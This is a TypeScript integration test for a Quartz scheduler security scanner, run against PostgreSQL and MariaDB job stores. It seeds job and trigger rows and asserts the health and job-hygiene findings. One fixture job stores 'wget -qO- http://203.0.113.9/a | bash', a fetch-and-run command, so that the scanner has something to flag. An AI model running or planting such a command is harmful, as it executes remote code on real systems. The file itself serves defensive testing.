/**
 * Job hygiene and scheduler health on real PostgreSQL and MariaDB JobStores: the shared scheduler queries
 * (queries/postgres|mysql/scheduler-*.sql through src/scheduler-facts.ts) and the J checks through each
 * dialect's adapter and the engine. Skips loudly without a server, unless QRTZ_REQUIRE_DB names it.
 */
import mysql from 'mysql2/promise';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { h01, h02, h03, h04, h05 } from '../../src/checks/scheduler/index.js';
import { u01 } from '../../src/checks/updates/index.js';
import { createMysqlAdapter } from '../../src/dialects/mysql/index.js';
import { createPostgresAdapter } from '../../src/dialects/postgres/index.js';
import {
  type RunQuery,
  readQuartzSchemaColumns,
  readSchedulerFacts,
  unixMsToTicks,
} from '../../src/dialects/shared/scheduler.js';
import { evaluateCheck, runScan } from '../../src/engine.js';
import { emptyFacts } from '../../src/facts.js';
import type { Dialect, Facts, Family, QuartzTable } from '../../src/model.js';
import { checkOptions, QUARTZ_TABLES } from '../../src/model.js';
import {
  createQuartzDb as createMysqlQuartzDb,
  connectOptions as mysqlConnectOptions,
  uniq,
} from '../integration/mysql/helpers.js';
import { dbRequired, sharedMariadb } from '../support/mariadb-server.js';
import { createQuartzDb as createPgQuartzDb, dropAll } from '../support/pg-quartz.js';
import { acquirePostgres, type PgServer, requireDb } from '../support/pg-server.js';

const opts = checkOptions({ maxBlobSize: 1 << 20 });
const MIN = 60_000;
const ALL = new Set<Family>(['grants', 'encryption', 'audit', 'content', 'scheduler', 'updates']);

/** The scenario rows as [sql, params] with ? placeholders; `t` turns Unix ms into the store's unit. */
function scenario(p: (logical: string) => string, t: (ms: number) => string, now: number): [string, unknown[]][] {
  const job = `INSERT INTO ${p('JOB_DETAILS')} (SCHED_NAME, JOB_NAME, JOB_GROUP, DESCRIPTION, JOB_CLASS_NAME, IS_DURABLE, IS_NONCONCURRENT, IS_UPDATE_DATA, REQUESTS_RECOVERY, JOB_DATA) VALUES (?, ?, 'DEFAULT', NULL, ?, TRUE, FALSE, FALSE, FALSE, ?)`;
  const trig = `INSERT INTO ${p('TRIGGERS')} (SCHED_NAME, TRIGGER_NAME, TRIGGER_GROUP, JOB_NAME, JOB_GROUP, NEXT_FIRE_TIME, TRIGGER_STATE, TRIGGER_TYPE, START_TIME) VALUES ('Sched', ?, ?, ?, 'DEFAULT', ?, ?, 'SIMPLE', ?)`;
  const day = t(now - 86_400_000);
  return [
    [
      job,
      [
        'Sched',
        'native',
        'Quartz.Job.NativeJob, Quartz.Jobs',
        Buffer.from(JSON.stringify({ command: 'wget -qO- http://203.0.113.9/a | bash' })),
      ],
    ],
    [
      job,
      [
        'Sched',
        'scan',
        'Quartz.Job.FileScanJob, Quartz.Jobs',
        Buffer.from(JSON.stringify({ FILE_NAME: '\\\\fileserver\\drop\\x.csv' })),
      ],
    ],
    [job, ['Sched', 'clean', 'Contoso.Jobs.Report, Contoso', Buffer.from(JSON.stringify({ reportName: 'daily' }))]],
    [trig, ['broken', 'DEFAULT', 'native', t(now + 10 * MIN), 'ERROR', day]],
    [trig, ['late', 'DEFAULT', 'clean', t(now - 180 * MIN), 'WAITING', day]],
    [trig, ['ontime', 'DEFAULT', 'clean', t(now + 5 * MIN), 'WAITING', day]],
    [trig, ['held', 'reports', 'clean', t(now + 5 * MIN), 'PAUSED', day]],
    [`INSERT INTO ${p('PAUSED_TRIGGER_GRPS')} (SCHED_NAME, TRIGGER_GROUP) VALUES ('Sched', 'reports')`, []],
    [
      `INSERT INTO ${p('SCHEDULER_STATE')} (SCHED_NAME, INSTANCE_NAME, LAST_CHECKIN_TIME, CHECKIN_INTERVAL) VALUES ('Sched', 'node-a', ?, 7500)`,
      [t(now - 45 * MIN)],
    ],
    [
      `INSERT INTO ${p('FIRED_TRIGGERS')} (SCHED_NAME, ENTRY_ID, TRIGGER_NAME, TRIGGER_GROUP, INSTANCE_NAME, FIRED_TIME, SCHED_TIME, PRIORITY, STATE, JOB_NAME, JOB_GROUP, IS_NONCONCURRENT, REQUESTS_RECOVERY) VALUES ('Sched', 'node-a-1', 'late', 'DEFAULT', 'node-a', ?, ?, 5, 'EXECUTING', 'clean', 'DEFAULT', FALSE, FALSE)`,
      [t(now - 300 * MIN), t(now - 300 * MIN)],
    ],
  ];
}

/** What every dialect must conclude from the scenario. */
function expectScenario(facts: Facts, unit: 'dotnet-ticks' | 'unix-ms') {
  const s = facts.scheduler;
  expect(s?.unreadable).toEqual([]);
  expect(s?.timeUnit).toBe(unit);
  expect(Math.abs((s?.nowMs ?? 0) - Date.now())).toBeLessThan(5 * MIN);
  expect(evaluateCheck(h01, facts, opts)?.map((d) => [d.status, d.object.rowKey])).toEqual([
    ['fail', 'Sched/DEFAULT.broken'],
  ]);
  expect(evaluateCheck(h02, facts, opts)?.map((d) => d.object.rowKey)).toEqual(['Sched/DEFAULT.late']);
  expect(evaluateCheck(h02, facts, opts)?.[0]?.evidence?.overdueMinutes).toBe(180);
  expect(evaluateCheck(h03, facts, opts)?.map((d) => d.object.rowKey)).toEqual(['Sched/node-a']);
  expect(evaluateCheck(h04, facts, opts)?.map((d) => d.discriminator)).toEqual(['node-a-1']);
  expect(evaluateCheck(h05, facts, opts)?.map((d) => d.status)).toEqual(['info', 'info']);
}

function expectJobFindings(findings: { check: string; status: string; object: { name: string } }[]) {
  const fails = findings
    .filter((f) => f.status === 'fail' && /^QA-J0/.test(f.check))
    .map((f) => `${f.check} ${f.object.name}`);
  expect(fails.some((f) => f.startsWith('QA-J01') && f.includes('DEFAULT.native'))).toBe(true);
  expect(fails.some((f) => f.startsWith('QA-J02') && f.includes('DEFAULT.native'))).toBe(true);
  expect(fails.some((f) => f.startsWith('QA-J03') && f.includes('DEFAULT.scan'))).toBe(true);
  expect(fails.some((f) => f.includes('DEFAULT.clean'))).toBe(false);
}

function tablesOf(dialect: Dialect, schema: string, name: (l: string) => string): QuartzTable[] {
  void dialect;
  return QUARTZ_TABLES.map((logical) => ({ logical, name: name(logical), schema }));
}

// ---------------------------------------------------------------------------------------------------------------
const pgServer = await acquirePostgres();
const pgSkip = 'skip' in pgServer ? pgServer.skip : undefined;
if (pgSkip) {
  if (requireDb('postgres')) throw new Error(`QRTZ_REQUIRE_DB names postgres but: ${pgSkip}`);
  console.warn(`[skip] jobs-servers postgres: ${pgSkip}`);
}

describe.skipIf(Boolean(pgSkip))('PostgreSQL JobStore (Quartz.NET, .NET ticks)', () => {
  const server = pgServer as PgServer;
  const db = `qrtz_jobs_${uniq()}`;
  const name = (l: string) => `qrtz_${l.toLowerCase()}`;
  afterAll(async () => {
    try {
      await dropAll(server, [db], ['qrtz_jobs_owner']);
    } finally {
      await server.stop();
    }
  });

  beforeAll(async () => {
    await createPgQuartzDb(server, db, 'quartz', 'qrtz_jobs_owner');
    const client = new pg.Client({ connectionString: server.adminUrl(db) });
    await client.connect();
    try {
      for (const [sql, params] of scenario((l) => `quartz.${name(l)}`, unixMsToTicks, Date.now())) {
        let i = 0;
        await client.query(
          sql.replace(/\?/g, () => `$${++i}`),
          params,
        );
      }
    } finally {
      await client.end();
    }
  });

  it('scheduler facts and H/U checks from queries/postgres/scheduler-*.sql', async () => {
    const client = new pg.Client({ connectionString: server.adminUrl(db) });
    await client.connect();
    try {
      const run: RunQuery = async (sql, params) => (await client.query(sql, params)).rows;
      const tables = tablesOf('postgres', 'quartz', name);
      const scheduler = await readSchedulerFacts(run, tables, {
        dialect: 'postgres',
        quote: (t) => `"${t.schema}"."${t.name}"`,
      });
      const cols = await readQuartzSchemaColumns(run, tables, 'postgres');
      const facts = emptyFacts('postgres', { scheduler, quartzSchemaColumns: cols.columns });
      expectScenario(facts, 'dotnet-ticks');
      expect(evaluateCheck(u01, facts, opts)?.[0]?.message).toContain('3.19');
    } finally {
      await client.end();
    }
  });

  it('J checks through the PostgreSQL adapter and the engine', async () => {
    const adapter = createPostgresAdapter(
      mysqlConnectOptions(server.adminUrl(db), { schema: 'quartz', families: ALL }),
    );
    await adapter.connect();
    try {
      const result = await runScan(adapter, { families: ALL, checkOptions: opts });
      expectJobFindings(result.findings);
    } finally {
      await adapter.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------
const maria = await sharedMariadb();
if (!maria.ok) {
  if (dbRequired()) throw new Error(`QRTZ_REQUIRE_DB is set but ${maria.reason}`);
  console.warn(`[skip] jobs-servers mariadb: ${maria.reason}`);
}
const HOST = process.env.QRTZ_MYSQL_HOST ?? '127.0.0.1';
const PORT = Number(process.env.QRTZ_MYSQL_PORT ?? 3306);

describe.skipIf(!maria.ok)('MariaDB JobStore (Java Quartz times, Unix ms)', () => {
  const db = `qrtz_jobs_${uniq()}`;
  let conn: mysql.Connection | undefined;
  afterAll(async () => {
    if (conn) {
      await conn.query(`DROP DATABASE IF EXISTS \`${db}\``);
      await conn.end();
    }
  });

  beforeAll(async () => {
    conn = await mysql.createConnection({ host: HOST, port: PORT, user: 'root' });
    await createMysqlQuartzDb(conn, db);
    for (const [sql, params] of scenario(
      (l) => `\`${db}\`.QRTZ_${l}`,
      (ms) => String(ms),
      Date.now(),
    )) {
      await conn.query(sql, params);
    }
  });

  it('scheduler facts and H checks from queries/mysql/scheduler-*.sql', async () => {
    const c = conn as mysql.Connection;
    const run: RunQuery = async (sql, params) => (await c.query(sql, params))[0] as Record<string, unknown>[];
    const tables = tablesOf('mariadb', db, (l) => `QRTZ_${l}`);
    const scheduler = await readSchedulerFacts(run, tables, {
      dialect: 'mysql',
      quote: (t) => `\`${t.schema}\`.\`${t.name}\``,
    });
    const cols = await readQuartzSchemaColumns(run, tables, 'mysql');
    expect(cols.columns).toContain('TRIGGERS.TRIGGER_STATE');
    expectScenario(emptyFacts('mariadb', { scheduler, quartzSchemaColumns: cols.columns }), 'unix-ms');
  });

  it('J checks through the MySQL/MariaDB adapter and the engine', async () => {
    const adapter = createMysqlAdapter(mysqlConnectOptions(`mysql://root@${HOST}:${PORT}/${db}`, { families: ALL }));
    await adapter.connect();
    try {
      const result = await runScan(adapter, { families: ALL, checkOptions: opts });
      expectJobFindings(result.findings);
    } finally {
      await adapter.close();
    }
  });
});
